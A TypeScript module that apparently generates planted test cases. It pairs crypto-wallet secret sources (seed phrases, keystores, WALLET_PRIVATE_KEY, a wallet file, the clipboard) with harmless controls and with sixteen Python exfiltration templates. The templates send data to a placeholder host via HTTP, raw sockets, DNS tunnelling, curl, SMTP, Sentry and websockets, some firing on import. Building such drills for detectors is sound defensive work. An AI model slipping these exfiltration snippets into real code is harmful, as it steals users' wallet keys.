import { PYTHON_ENCODERS } from '../encoders.ts';
import type { Parts } from './compose.ts';
import type { Sink, Source } from './composition.ts';
import { PYTHON_PATHS } from './pythonPaths.ts';

const SOURCES: readonly Source[] = [
  { name: 'constructor', spot: 'acme/account.py:constructor', secret: 'seed', harmless: 'self.public_key' },
  {
    name: 'mnemonic',
    spot: 'acme/account.py:phrase',
    secret: 'phrase.encode()',
    harmless: 'str(len(phrase.split())).encode()',
  },
  { name: 'keystore', spot: 'acme/keystore.py:keystore', secret: 'opened', harmless: 'str(len(opened)).encode()' },
  {
    name: 'environment',
    spot: 'acme/environment.py:environment',
    secret: 'value.encode()',
    harmless: 'str(len(value)).encode()',
    atImport: { value: 'os.environ.get("WALLET_PRIVATE_KEY", "").encode()', imports: 'import os\n' },
  },
  {
    name: 'wallet file',
    spot: 'acme/files.py:file',
    secret: 'content.encode()',
    harmless: 'str(len(content)).encode()',
    atImport: {
      value: 'Path("~/.config/acme-wallet/id.json").expanduser().read_bytes()',
      imports: 'from pathlib import Path\n',
    },
  },
  {
    name: 'clipboard',
    spot: 'acme/paste.py:clipboard',
    secret: 'pasted.encode()',
    harmless: 'str(len(pasted)).encode()',
  },
  { name: 'use', spot: 'acme/signing.py:use', secret: 'b', harmless: 'c' },
];

const SINKS: readonly Sink[] = [
  {
    name: 'requests body',
    text: `import requests\n\n\ndef send(text):\n    try:\n        requests.post("https://@host/@route", json={"text": text}, timeout=2)\n    except requests.RequestException:\n        pass\n`,
  },
  {
    name: 'requests header',
    text: `import requests\n\n\ndef send(text):\n    session = requests.Session()\n    session.headers.update({"x-request-id": text})\n    try:\n        session.get("https://@host/@route", timeout=2)\n    except requests.RequestException:\n        pass\n`,
  },
  {
    name: 'requests query',
    text: `import requests as http\n\n\ndef send(text):\n    try:\n        http.get("https://@host/@route", params={"v": text}, timeout=2)\n    except Exception:\n        pass\n`,
  },
  {
    name: 'urllib',
    text: `import urllib.request\n\n\ndef send(text):\n    request = urllib.request.Request("https://@host/@route", data=text.encode(), method="POST")\n    try:\n        urllib.request.urlopen(request, timeout=2)\n    except OSError:\n        pass\n`,
  },
  {
    name: 'urllib address',
    text: `from urllib.request import urlopen\n\n\ndef send(text):\n    try:\n        urlopen("https://@host/@route/%s" % text, timeout=2)\n    except OSError:\n        pass\n`,
  },
  {
    name: 'httpx',
    text: `import httpx\n\n\ndef send(text):\n    try:\n        with httpx.Client(base_url="https://@host") as client:\n            client.post("/@route", content=text)\n    except httpx.HTTPError:\n        pass\n`,
  },
  {
    name: 'http client',
    text: `import http.client\n\n\ndef send(text):\n    connection = http.client.HTTPSConnection("@host", timeout=2)\n    try:\n        connection.request("POST", "/@route", body=text)\n    except OSError:\n        pass\n`,
  },
  {
    name: 'socket',
    text: `import socket\n\n\ndef send(text):\n    try:\n        with socket.create_connection(("@host", 443), timeout=2) as connection:\n            connection.sendall(text.encode())\n    except OSError:\n        pass\n`,
  },
  {
    name: 'dns',
    text: `import socket\n\n\ndef send(text):\n    for at in range(0, len(text), 60):\n        try:\n            socket.gethostbyname(f"{text[at:at + 60]}.@host")\n        except OSError:\n            pass\n`,
  },
  {
    name: 'subprocess',
    text: `import subprocess\n\n\ndef send(text):\n    subprocess.Popen(["curl", "-s", "-d", text, "https://@host/@route"], stdout=subprocess.DEVNULL)\n`,
  },
  {
    name: 'os system',
    text: `import os\n\n\ndef send(text):\n    os.system(f"curl -s -d '{text}' https://@host/@route")\n`,
  },
  {
    name: 'smtplib',
    text: `import smtplib\n\n\ndef send(text):\n    try:\n        with smtplib.SMTP_SSL("@host", timeout=2) as mail:\n            mail.sendmail("a@@host", ["b@@host"], text)\n    except OSError:\n        pass\n`,
  },
  {
    name: 'file for later',
    text: `import os\nimport tempfile\nimport urllib.request\n\n_SPOOL = os.path.join(tempfile.gettempdir(), ".portcullis-drill-spool")\n\n\ndef send(text):\n    with open(_SPOOL, "a", encoding="utf-8") as spool:\n        spool.write(text + "\\n")\n\n\ndef ship():\n    with open(_SPOOL, "rb") as spool:\n        urllib.request.urlopen("https://@host/@route", data=spool.read(), timeout=2)\n`,
  },
  {
    name: 'error reporter',
    text: `import sentry_sdk\n\nsentry_sdk.init(dsn="https://0@@host/1")\n\n\ndef send(text):\n    with sentry_sdk.new_scope() as scope:\n        scope.set_extra("text", text)\n        sentry_sdk.capture_message("unexpected state")\n`,
  },
  {
    name: 'web socket',
    text: `import websocket\n\n\ndef send(text):\n    connection = websocket.create_connection("wss://@host/@route", timeout=2)\n    connection.send(text)\n`,
  },
  {
    name: 'aiohttp',
    text: `import asyncio\n\nimport aiohttp\n\n\nasync def _post(text):\n    async with aiohttp.ClientSession() as session:\n        async with session.post("https://@host/@route", data=text):\n            pass\n\n\ndef send(text):\n    asyncio.run(_post(text))\n`,
  },
];

export const PYTHON_PARTS: Parts = {
  sources: SOURCES,
  paths: PYTHON_PATHS,
  encoders: [{ name: 'none', expression: '($).decode("latin-1")', imports: [] }, ...PYTHON_ENCODERS],
  sinks: SINKS,
  triggers: ['at once', 'timer', 'guarded', 'import'],
  harmlessAtImport: 'str(__debug__).encode()',
};
